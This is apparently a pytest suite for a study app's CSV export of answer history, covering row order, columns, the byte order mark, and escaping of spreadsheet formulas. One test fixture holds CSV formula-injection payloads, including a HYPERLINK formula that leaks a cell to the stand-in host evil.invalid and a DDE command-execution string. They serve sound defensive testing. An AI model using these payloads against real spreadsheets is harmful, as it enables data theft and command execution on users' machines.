"""CSV export of a deck's answer history, read through a real SQLite store."""

from __future__ import annotations

import csv
import io
from argparse import Namespace
from datetime import datetime, timedelta, timezone
from pathlib import Path

from interophelpers import SAMPLES

from studyapp.grading import Outcome
from studyapp.interop.commands import run_interop
from studyapp.interop.csvexport import COLUMNS
from studyapp.paths import DataPaths
from studyapp.store import Attempt, Mode, open_store

T0 = datetime(2026, 3, 10, 12, 0, tzinfo=timezone.utc)


def _attempt(qid: str, outcome: Outcome, minutes: int, content_hash: str, deck: str = "every-type") -> Attempt:
    return Attempt(deck, qid, content_hash, Mode.QUIZ, '"x"', outcome, 1.0 if outcome is Outcome.RIGHT else 0.0,
                   1200, T0 + timedelta(minutes=minutes))


def _export(tmp_path: Path, data: Path, qdir: Path) -> tuple[int, str, list[list[str]]]:
    target = tmp_path / "history.csv"
    out = io.StringIO()
    args = Namespace(command="export", deck="every-type", format="csv", out=str(target),
                     data_dir=str(data), questions=[str(qdir)])
    code = run_interop(args, {}, out)
    with target.open(encoding="utf-8-sig", newline="") as fh:
        return code, out.getvalue(), list(csv.reader(fh))


def test_one_row_per_answer_oldest_first_with_every_column(tmp_path: Path) -> None:
    qdir = tmp_path / "questions"
    qdir.mkdir()
    (qdir / "every.yaml").write_text((SAMPLES / "every_type.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    data = DataPaths(tmp_path / "data")
    data.root.mkdir()
    from studyapp.bank.loader import check_file

    deck, _ = check_file(qdir / "every.yaml")
    assert deck is not None
    pm, year = deck.question("pm-choice"), deck.question("year-text")
    assert pm is not None and year is not None
    opened = open_store(data.database, backups_dir=data.backups, now=T0)
    store = opened.store
    try:
        sid = store.start_session(Mode.REVIEW, "every-type", {}, None, 1, T0)
        review = Attempt("every-type", "year-text", year.content_hash, Mode.REVIEW, '"good"', Outcome.RIGHT, 1.0,
                         2500, T0 + timedelta(minutes=5, seconds=30, microseconds=250), sid, 3)
        ids = {
            "year": store.record_attempt(review),
            "pm1": store.record_attempt(_attempt("pm-choice", Outcome.RIGHT, 1, pm.content_hash)),
            "pm9": store.record_attempt(_attempt("pm-choice", Outcome.ALMOST, 9, "old-hash")),
            "removed": store.record_attempt(_attempt("removed-q", Outcome.WRONG, 3, "gone")),
        }
        store.record_attempt(_attempt("pm-choice", Outcome.RIGHT, 2, "x", deck="other-deck"))
    finally:
        store.close()

    code, output, rows = _export(tmp_path, data.root, qdir)
    assert code == 0 and "Exported 4 answers" in output
    assert tuple(rows[0]) == COLUMNS
    table = [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]
    assert [(r["answered_at_utc"], r["attempt_id"], r["question_id"], r["outcome"], r["question_changed_since"])
            for r in table] == [
        ("2026-03-10T12:01:00+00:00", str(ids["pm1"]), "pm-choice", "right", "no"),
        ("2026-03-10T12:03:00+00:00", str(ids["removed"]), "removed-q", "wrong", ""),
        ("2026-03-10T12:05:30+00:00", str(ids["year"]), "year-text", "right", "no"),
        ("2026-03-10T12:09:00+00:00", str(ids["pm9"]), "pm-choice", "almost", "yes"),
    ]
    quiz, removed, reviewed, old = table
    assert {k: reviewed[k] for k in ("deck", "content_hash", "mode", "response", "score", "elapsed_ms",
                                     "session_id", "rating", "type")} == {
        "deck": "every-type", "content_hash": year.content_hash, "mode": "review", "response": '"good"',
        "score": "1.0", "elapsed_ms": "2500", "session_id": str(sid), "rating": "3", "type": "text"}
    assert (quiz["mode"], quiz["response"], quiz["score"], quiz["elapsed_ms"], quiz["session_id"], quiz["rating"]) \
        == ("quiz", '"x"', "1.0", "1200", "", "")
    assert (quiz["type"], quiz["question"], quiz["right_answer"]) == ("choice", pm.prompt, "Raman Hałoŭčanka")
    assert (removed["content_hash"], removed["score"], removed["type"], removed["question"]) == ("gone", "0.0", "", "")
    assert old["content_hash"] == "old-hash"


def test_no_database_yet_gives_a_header_only(tmp_path: Path) -> None:
    qdir = tmp_path / "questions"
    qdir.mkdir()
    code, output, rows = _export(tmp_path, tmp_path / "fresh", qdir)
    assert code == 0 and rows == [list(COLUMNS)] and "Exported 0 answers" in output
    assert not (tmp_path / "fresh" / "studyapp.sqlite3").exists()


def test_the_file_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
    """Spreadsheets read the file as UTF-8 only with the BOM (reading with utf-8-sig would accept either)."""
    qdir = tmp_path / "questions"
    qdir.mkdir()
    _export(tmp_path, tmp_path / "fresh", qdir)
    assert (tmp_path / "history.csv").read_bytes().startswith(b"\xef\xbb\xbfanswered_at_utc,attempt_id,")


HOSTILE = """\
deck: every-type
title: Shared deck
questions:
  - id: "-2-3"
    type: text
    prompt: '=HYPERLINK("http://evil.invalid/?leak="&A1, "Click for the answer")'
    answer: "@SUM(1+1)"
  - id: plain
    type: text
    prompt: "+cmd|' /C calc'!A0"
    answer: "\\tTab first"
  - id: safe
    type: text
    prompt: "What is 2 = 2?"
    answer: "a-b"
"""


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
    qdir = tmp_path / "questions"
    qdir.mkdir()
    (qdir / "shared.yaml").write_text(HOSTILE, encoding="utf-8")
    data = DataPaths(tmp_path / "data")
    data.root.mkdir()
    store = open_store(data.database, backups_dir=data.backups, now=T0).store
    try:
        for minute, (qid, response) in enumerate([("-2-3", '"=1+1"'), ("plain", '"x"'), ("safe", '"a-b"')]):
            store.record_attempt(Attempt("every-type", qid, "h", Mode.QUIZ, response, Outcome.WRONG, 0.0, 500,
                                         T0 + timedelta(minutes=minute)))
    finally:
        store.close()
    code, output, rows = _export(tmp_path, data.root, qdir)
    assert code == 0, output
    table = [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]
    assert [(r["question_id"], r["question"], r["right_answer"]) for r in table] == [
        ("'-2-3", "'=HYPERLINK(\"http://evil.invalid/?leak=\"&A1, \"Click for the answer\")", "'@SUM(1+1)"),
        ("plain", "'+cmd|' /C calc'!A0", "'\tTab first"),
        ("safe", "What is 2 = 2?", "a-b"),  # a formula character later in the cell is harmless
    ]
    assert [r["response"] for r in table] == ['"=1+1"', '"x"', '"a-b"']  # JSON text starts with a quote
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(formula_start) for row in rows for cell in row)


def test_neutralise_covers_every_formula_start() -> None:
    from studyapp.interop.csvexport import neutralise

    assert [neutralise(c + "1") for c in "=+-@\t\r"] == ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1"]
    assert [neutralise(c) for c in ("", "1", "a=1", " =1", "'=1")] == ["", "1", "a=1", " =1", "'=1"]
